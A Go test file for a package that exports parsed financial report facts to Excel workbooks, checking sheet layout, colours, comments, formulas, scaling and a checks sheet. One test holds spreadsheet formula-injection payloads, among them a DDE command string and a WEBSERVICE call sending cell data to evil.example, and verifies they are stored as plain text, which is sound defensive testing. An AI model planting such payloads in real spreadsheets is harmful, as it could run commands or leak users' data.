package export

import (
	"bytes"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"facet/parse"
)

// sheetOrder is the sheets a report's workbook must have, in order.
func sheetOrder(rep *parse.Report) []string {
	var want []string
	entities := rep.Entities()
	for _, e := range entities {
		for _, s := range statementSheets {
			if len(entities) > 1 {
				want = append(want, e+" "+s.String())
			} else {
				want = append(want, s.String())
			}
		}
	}
	return append(want, "Guidance", "Facts", "Checks", "Sources")
}

// bookCell is one cell of a statement sheet as excelize reads it back.
type bookCell struct {
	ref, value, formula, color, comment, fill string
	number, italic                            bool
}

// readStatement reads the figures of a statement sheet (below its header
// rows, right of its labels) with excelize's reader.
func readStatement(t *testing.T, f *excelize.File, sheet string) []bookCell {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	comments, err := f.GetComments(sheet)
	if err != nil {
		t.Fatal(err)
	}
	byCell := map[string]string{}
	for _, c := range comments {
		var b strings.Builder
		for _, p := range c.Paragraph {
			b.WriteString(p.Text)
		}
		byCell[c.Cell] = c.Text + b.String()
	}
	var out []bookCell
	for r := firstDataRow; r <= len(rows); r++ {
		label := ""
		if len(rows[r-1]) > 0 {
			label = rows[r-1][0]
		}
		if strings.HasPrefix(label, "Blue:") {
			break // the legend
		}
		for c := 2; c <= len(rows[r-1]); c++ {
			ref := cellName(c, r)
			v := rows[r-1][c-1]
			formula, _ := f.GetCellFormula(sheet, ref)
			if v == "" && formula == "" {
				continue
			}
			id, _ := f.GetCellStyle(sheet, ref)
			st, err := f.GetStyle(id)
			if err != nil {
				t.Fatal(err)
			}
			color, fill := "", ""
			if st.Font != nil {
				color = strings.ToUpper(st.Font.Color)
			}
			if len(st.Fill.Color) > 0 {
				fill = strings.ToUpper(st.Fill.Color[0])
			}
			_, perr := strconv.ParseFloat(v, 64)
			typ, _ := f.GetCellType(sheet, ref)
			out = append(out, bookCell{ref: ref, value: v, formula: formula, color: color, comment: byCell[ref], fill: fill,
				number: perr == nil && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString, italic: st.Font != nil && st.Font.Italic})
		}
	}
	return out
}

// TestWorkbookReadBack reads the samples' workbook back with excelize:
// its sheets, every figure a number, inputs blue with a comment naming
// their source, formulas black, every statement fact present once, the
// Facts table with a row per fact, frozen panes and print titles.
func TestWorkbookReadBack(t *testing.T) {
	rep := sampleReport(t)
	path := writeBook(t, rep, WorkbookOptions{})
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := sheetOrder(rep)
	if got := f.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	statementFacts := 0
	for _, fact := range Reportable(rep.Facts) {
		if onStatement(fact) {
			statementFacts++
		}
	}
	inputs, stated, guides, derivedCells, formulas, links := 0, 0, 0, 0, 0, 0
	cells := map[string]bookCell{} // 'Sheet'!B7 → the cell
	for _, sheet := range want[:len(want)-4] {
		for _, c := range readStatement(t, f, sheet) {
			cells["'"+sheet+"'!"+c.ref] = c
		}
	}
	for _, sheet := range want[:len(want)-4] {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.TopLeftCell != "B7" || panes.XSplit != 1 || panes.YSplit != 6 {
			t.Errorf("%s: panes %+v (%v), want frozen at B7", sheet, panes, err)
		}
		view, _ := f.GetSheetView(sheet, 0)
		if view.ShowGridLines == nil || *view.ShowGridLines {
			t.Errorf("%s shows gridlines", sheet)
		}
		layout, _ := f.GetPageLayout(sheet)
		if layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 {
			t.Errorf("%s: page layout %+v, want landscape fitted to one page wide", sheet, layout)
		}
		for _, c := range readStatement(t, f, sheet) {
			// a growth rate is blank while either of its figures is
			if !c.number && c.value != "n.m." && !(c.value == "" && strings.HasPrefix(c.formula, "IF(OR(")) {
				t.Errorf("%s!%s holds %q, not a number", sheet, c.ref, c.value)
			}
			switch {
			case c.formula == "" && c.color == colorGuidance:
				guides++
				if !strings.Contains(c.comment, "Guidance: ") || !strings.Contains(c.comment, ".txt, line ") {
					t.Errorf("%s!%s: guidance whose comment does not say so and name its source: %q", sheet, c.ref, c.comment)
				}
			case c.formula == "":
				inputs++
				if c.color != colorInput {
					t.Errorf("%s!%s: an input in colour %q, want blue", sheet, c.ref, c.color)
				}
				if !strings.Contains(c.comment, ".txt, line ") {
					t.Errorf("%s!%s: an input whose comment names no source: %q", sheet, c.ref, c.comment)
				}
			default:
				formulas++
				if c.color != colorFormula && c.color != colorMuted {
					t.Errorf("%s!%s: a formula in colour %q, want black", sheet, c.ref, c.color)
				}
				target := c.formula
				if !strings.Contains(target, "!") {
					target = "'" + sheet + "'!" + target
				}
				if src, ok := cells[target]; ok { // a link: Summary's revenue is the Segments sheet's, a balance its quarter's
					links++
					if c.fill != src.fill || !strings.Contains(c.comment, "Linked: ") || !strings.Contains(c.comment, c.formula) {
						t.Errorf("%s!%s links %s: fill %q against %q, comment %q", sheet, c.ref, c.formula, c.fill, src.fill, c.comment)
					}
					continue
				}
				switch {
				case strings.HasPrefix(c.comment, "Formula: "):
					stated++ // a margin the arithmetic reproduces, standing where the documents state it
					if !strings.Contains(c.comment, ".txt, line ") || c.italic {
						t.Errorf("%s!%s: comment %q does not give the stated figure's source", sheet, c.ref, c.comment)
					}
				case c.comment != "":
					derivedCells++ // a formula standing for a figure no document states
					if !strings.HasPrefix(c.comment, "Derived: ") || !c.italic {
						t.Errorf("%s!%s: comment %q (italic %v) does not say the figure is derived", sheet, c.ref, c.comment, c.italic)
					}
				}
			}
		}
	}
	t.Logf("%d statement facts: %d inputs, %d guided, %d formulas (%d for stated margins, %d derived figures)", statementFacts, inputs, guides, formulas, stated, derivedCells)
	if inputs+stated != statementFacts {
		t.Errorf("%d inputs and %d formulas for stated margins, want the %d facts of the statement sheets", inputs, stated, statementFacts)
	}
	if formulas <= derivedCells || derivedCells == 0 || guides == 0 {
		t.Errorf("%d formulas, %d derived, %d guided", formulas, derivedCells, guides)
	}
	if links == 0 {
		t.Error("Summary links no figure of the Segments sheet")
	}
	names := map[string]bool{}
	for _, dn := range f.GetDefinedName() {
		names[dn.Name+"@"+dn.Scope] = true
	}
	for _, sheet := range want {
		if !names["_xlnm.Print_Titles@"+sheet] {
			t.Errorf("%s repeats no header rows when printed", sheet)
		}
	}

	facts := Reportable(rep.Facts)
	tables, err := f.GetTables("Facts")
	if err != nil || len(tables) != 1 {
		t.Fatalf("Facts tables %v, %v", tables, err)
	}
	last := cellName(len(factColumns), len(facts)+1)
	if tables[0].Range != "A1:"+last || tables[0].Name != "Facts" {
		t.Errorf("Facts table %+v, want A1:%s", tables[0], last)
	}
	if dim, _ := f.GetSheetDimension("Facts"); dim != "A1:"+last {
		t.Errorf("Facts dimension %s, want A1:%s", dim, last)
	}
	rows, err := f.GetRows("Facts", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(facts)+1 {
		t.Fatalf("Facts has %d rows, want %d", len(rows), len(facts)+1)
	}
	for i, c := range factColumns {
		if rows[0][i] != c.name {
			t.Errorf("Facts header %d is %q, want %q", i+1, rows[0][i], c.name)
		}
	}
	for i, fact := range facts {
		row := rows[i+1]
		v, err := strconv.ParseFloat(row[12], 64)
		if err != nil || !near(v, toFloat(fact.Value)) {
			t.Errorf("Facts row %d: value %q, want %s", i+2, row[12], fact.Value)
		}
		if row[0] != fact.Entity || row[1] != fact.ConceptInfo().XBRL || row[3] != fact.Segment || row[11] != strconv.Itoa(fact.Decimals) || row[13] != fact.StatusText() {
			t.Errorf("Facts row %d: %q does not describe %v", i+2, row[:14], fact.Key)
		}
	}
}

// TestWorkbookInjection writes text from documents that Excel would run
// as a formula if it were written as one, and reads it back as text.
func TestWorkbookInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/","click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, "=1+1\t"}
	var facts []fx
	for i, s := range evil {
		facts = append(facts, fx{concept: "Revenue", segment: s, period: "Q2 2025", value: fmt.Sprint(100 + i), decimals: 0, entity: "=EVIL()"})
	}
	rep := testReport(t, parse.Calendar{}, facts...)
	// the quote of a source is text from the document too
	rep.Facts[0].Sources[0].Quote = `=WEBSERVICE("http://evil.example/"&A1) revenue was RMB100`
	rep.Facts[0].Sources[0].Figure = parse.Span{Start: len(rep.Facts[0].Sources[0].Quote) - 6, End: len(rep.Facts[0].Sources[0].Quote)}
	path := writeBook(t, rep, WorkbookOptions{})
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				for _, s := range append(evil, "=EVIL()", rep.Facts[0].Sources[0].Quote) {
					if !strings.Contains(v, strings.TrimSpace(s)) {
						continue
					}
					ref := cellName(c+1, r+1)
					found[s] = true
					if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
						t.Errorf("%s!%s: document text %q became the formula %q", sheet, ref, s, formula)
					}
					typ, _ := f.GetCellType(sheet, ref)
					if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
						t.Errorf("%s!%s: document text %q is a cell of type %v, not text", sheet, ref, s, typ)
					}
				}
			}
		}
	}
	for _, s := range evil {
		if !found[s] {
			t.Errorf("%q is nowhere in the workbook", s)
		}
	}
	if !found["=EVIL()"] {
		t.Error("the company name is nowhere in the workbook")
	}
}

func TestDisplayScale(t *testing.T) {
	rep := testReport(t, parse.Calendar{}, fx{concept: "Revenue", period: "Q2 2025", value: "2349200000", decimals: -5})
	cases := []struct {
		scale  int
		format string
		units  string
		value  string
	}{
		{0, `#,##0.0_);(#,##0.0);"–"_)`, "RMB million", "2349.2"},
		{3, `#,##0_);(#,##0);"–"_)`, "RMB thousand", "2349200"},
		{6, `#,##0.0_);(#,##0.0);"–"_)`, "RMB million", "2349.2"},
		{9, `#,##0.00_);(#,##0.00);"–"_)`, "RMB billion", "2.3492"},
	}
	for _, tc := range cases {
		f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{DisplayScale: tc.scale}))
		if err != nil {
			t.Fatal(err)
		}
		v, _ := f.GetCellValue("Segments", "B7", excelize.Options{RawCellValue: true})
		id, _ := f.GetCellStyle("Segments", "B7")
		st, _ := f.GetStyle(id)
		units, _ := f.GetCellValue("Segments", "A2")
		// the cell holds the figure in the display scale, as a modeller
		// types an override; the Facts sheet keeps the exact value
		exact, _ := f.GetCellValue("Facts", "M2", excelize.Options{RawCellValue: true})
		if v != tc.value || st.CustomNumFmt == nil || *st.CustomNumFmt != tc.format || units != tc.units || exact != "2349200000" {
			t.Errorf("scale %d: B7 holds %q as %v under %q, Facts!M2 %q; want %s as %s under %q, and 2349200000", tc.scale, v, *st.CustomNumFmt, units, exact, tc.value, tc.format, tc.units)
		}
		f.Close()
	}
	for _, bad := range []int{1, 4, -3, 12} {
		err := WriteWorkbook(&bytes.Buffer{}, rep, WorkbookOptions{DisplayScale: bad})
		if !errors.Is(err, ErrDisplayScale) || !strings.Contains(err.Error(), "choose 3 (thousands), 6 (millions) or 9 (billions)") {
			t.Errorf("scale %d: error %v", bad, err)
		}
	}
}

// TestSeveralCompanies gives each company its own statement sheets,
// formulas that name them, and one Facts, Checks and Sources for all.
func TestSeveralCompanies(t *testing.T) {
	rep := testReport(t, parse.Calendar{},
		fx{entity: "Bob's Cloud", concept: "Revenue", period: "Q2 2025", value: "300", decimals: 0},
		fx{entity: "Bob's Cloud", concept: "CostOfRevenue", period: "Q2 2025", value: "200", decimals: 0},
		fx{entity: "Acme", concept: "Revenue", period: "FY2024", value: "1000", decimals: 0},
		fx{entity: "Acme", concept: "Revenue", period: "FY2026", value: "1200", decimals: 0, scenario: parse.Forecast},
	)
	f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{}))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := sheetOrder(rep)
	if got := f.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	formula, _ := f.GetCellFormula("Bob's Cloud Segments", "B8")
	if formula != "B7-'Bob''s Cloud Costs'!B7" {
		t.Errorf("gross profit formula %q", formula)
	}
	rows, _ := f.GetRows("Facts")
	if len(rows) != 5 {
		t.Errorf("Facts has %d rows, want 5", len(rows))
	}
	guided, _ := f.GetCellValue("Guidance", "A5")
	actual, _ := f.GetCellValue("Guidance", "I5")
	if guided != "Acme" || actual != "not yet reported" {
		t.Errorf("Guidance row 5: %q, %q", guided, actual)
	}
}

// TestEmptyReport: a report with no figures still makes a workbook that
// opens, with its sheets saying there is nothing.
func TestEmptyReport(t *testing.T) {
	for name, rep := range map[string]*parse.Report{
		"no documents":  {},
		"only guidance": testReport(t, parse.Calendar{}, fx{concept: "Revenue", period: "FY2026", value: "5", decimals: 0, scenario: parse.Forecast}),
	} {
		t.Run(name, func(t *testing.T) {
			f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{}))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if got, want := f.GetSheetList(), sheetOrder(rep); strings.Join(got, "|") != strings.Join(want, "|") {
				t.Errorf("sheets %q, want %q", got, want)
			}
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet)
				if err != nil || len(rows) == 0 {
					t.Errorf("%s: %d rows, %v", sheet, len(rows), err)
				}
			}
		})
	}
}

// TestChecksSheetStatedColumn: a stated figure on the Checks sheet is the
// documents' figure, in the workbook's scale (400 is 0.4 thousand). Where
// the statement cell holds a formula (here revenue less cost, which gives
// the stated gross profit), the Stated column cannot point at that cell:
// it holds the figure itself, in blue; the segments that miss it differ.
func TestChecksSheetStatedColumn(t *testing.T) {
	rep := testReport(t, parse.Calendar{},
		fx{concept: "Revenue", period: "Q2 2025", value: "1000", decimals: 0},
		fx{concept: "CostOfRevenue", period: "Q2 2025", value: "600", decimals: 0},
		fx{concept: "GrossProfit", period: "Q2 2025", value: "400", decimals: 0},
		fx{concept: "GrossProfit", segment: "A", period: "Q2 2025", value: "200", decimals: 0},
		fx{concept: "GrossProfit", segment: "B", period: "Q2 2025", value: "100", decimals: 0},
	)
	f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{DisplayScale: 3}))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Checks", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	found, segments := 0, 0
	for i, row := range rows {
		if len(row) < 10 || row[1] != "formula" || !strings.HasPrefix(row[3], "Gross profit") {
			continue
		}
		found++
		ref := cellName(7, i+1)
		formula, _ := f.GetCellFormula("Checks", ref)
		if formula != "" || row[6] != "0.4" {
			t.Errorf("%s: the stated gross profit is %q (formula %q), want the figure 0.4 thousand", ref, row[6], formula)
		}
		if strings.HasPrefix(row[9], "The sum of the segments") {
			segments++
			if row[0] != "differs" || !strings.Contains(row[9], "holds another formula") {
				t.Errorf("the segments' check reads %q: %q", row[0], row[9])
			}
		}
	}
	if segments != 1 {
		t.Errorf("%d checks of the segments' sum, want 1", segments)
	}
	if found != 2 {
		t.Errorf("%d checks of gross profit, want 2 (revenue less cost; the segments)", found)
	}
}
